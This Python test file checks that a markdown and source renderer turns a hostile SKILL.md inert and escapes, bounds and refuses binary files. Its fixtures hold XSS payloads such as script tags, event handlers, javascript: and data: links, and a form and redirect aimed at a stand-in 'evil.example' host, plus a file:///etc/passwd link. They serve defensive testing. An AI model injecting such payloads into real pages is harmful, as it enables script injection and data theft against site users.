"""A hostile SKILL.md renders inert; source files render escaped, bounded, never as binary."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tank.server.web.render import MAX_SOURCE_BYTES, render_markdown, render_source

HOSTILE = """\
# Title <script>alert('h1')</script>

<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)" onclick="alert(4)">raw link</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<style>body { display: none } a { background: url(http://evil.example/t) }</style>
<iframe src="https://evil.example/frame"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<svg onload="alert(5)"><circle r="1"/></svg>
<form action="https://evil.example/steal"><input name="p"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<!-- a comment <script>alert(6)</script> -->

[js](javascript:alert(7)) [mixed](JaVaScRiPt:alert(8)) [tab](java\tscript:alert(9))
[entity](&#106;avascript:alert(10)) [vb](vbscript:msgbox(11))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)
[ref][bad]
<javascript:alert(13)>

[bad]: javascript:alert(14)

![remote](http://evil.example/track.png "t") ![svg](data:image/svg+xml;base64,PHN2Zz4=)

[fine](https://example.org/docs) [mail](mailto:a@example.org) [relative](references/guide.md)

    <script>alert('indented code')</script>

```html
<script>alert('fenced')</script>
```
"""

ALLOWED_TAGS = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li",
    "ol", "p", "pre", "strong", "ul",
}  # fmt: skip
ALLOWED_ATTRS = {"href", "title", "rel", "start", "class"}


class Collector(HTMLParser):
    """Every element and attribute the browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def test_a_hostile_skill_md_renders_inert() -> None:
    html = render_markdown(HOSTILE)
    found = parse(html)
    assert found.tags, "the document rendered nothing at all"
    assert not found.comments
    for tag, attrs in found.tags:
        assert tag in ALLOWED_TAGS, (tag, attrs)
        assert set(attrs) <= ALLOWED_ATTRS, (tag, attrs)
        assert not any(name.startswith("on") for name in attrs)
        if tag == "code" and "class" in attrs:
            assert (attrs["class"] or "").startswith("language-"), attrs
    hrefs = [attrs["href"] or "" for tag, attrs in found.tags if tag == "a" and "href" in attrs]
    for href in hrefs:
        scheme = href.split(":", 1)[0].lower() if ":" in href.split("/", 1)[0] else ""
        assert scheme in {"", "http", "https", "mailto"}, href
    # The honest links survive, with rel set; the images became links, fetched by nobody.
    assert "https://example.org/docs" in hrefs and "mailto:a@example.org" in hrefs
    assert "references/guide.md" in hrefs
    assert "http://evil.example/track.png" in hrefs
    assert "[image: remote]" in html  # (the SVG data: image is refused outright: plain text)
    assert all(
        attrs.get("rel") == "nofollow noopener noreferrer"
        for tag, attrs in found.tags
        if tag == "a" and attrs.get("href")
    )
    # Raw HTML is shown as text, never interpreted.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html.lower() and "<style" not in html.lower()
    assert "<iframe" not in html.lower() and "<svg" not in html.lower()


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](  javascript:alert(1)  )",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<a href='javascript:alert(1)'>x</a>",
        "[x][r]\n\n[r]: vbscript:alert(1)",
        '![x](javascript:alert(1) "t")',
        "[x](file:///etc/passwd)",
    ],
)
def test_no_dangerous_link_survives(source: str) -> None:
    found = parse(render_markdown(source))
    for _tag, attrs in found.tags:
        href = (attrs.get("href") or "").strip().lower()
        assert not href.startswith(("javascript:", "data:", "vbscript:", "file:")), source


def test_markdown_still_renders_markdown() -> None:
    html = render_markdown("# Use it\n\n1. one\n2. **two**\n\n> quoted\n\n`code`\n")
    tags = [tag for tag, _ in parse(html).tags]
    # headings sit under the page's own h1 and h2
    assert tags == ["h3", "ol", "li", "li", "strong", "blockquote", "p", "p", "code"]
    assert "<h6>" in render_markdown("#### four\n\n###### six")


def test_source_is_highlighted_and_escaped() -> None:
    shown = render_source("page.html", b"<script>alert(1)</script>\n<p onclick='x'>hi</p>\n")
    assert shown.html is not None and shown.reason is None
    assert "<script" not in shown.html and "&lt;" in shown.html
    tags = {tag for tag, _ in parse(shown.html).tags}
    assert tags <= {"div", "table", "tr", "td", "pre", "span", "a"}, tags
    assert not any("style" in attrs for _, attrs in parse(shown.html).tags)


def test_binary_and_oversized_files_are_not_rendered() -> None:
    binary = render_source("logo.bin", b"\xff\xfe\x00\x01")
    assert binary.html is None and binary.reason == "not shown: a binary file"
    nul = render_source("a.txt", b"text\x00more")
    assert nul.html is None and "binary" in (nul.reason or "")
    big = render_source("big.txt", b"a" * (MAX_SOURCE_BYTES + 1))
    assert big.html is None and "limit" in (big.reason or "")
    assert big.size == MAX_SOURCE_BYTES + 1
    empty = render_source("empty.txt", b"")
    assert empty.html is not None and empty.reason is None
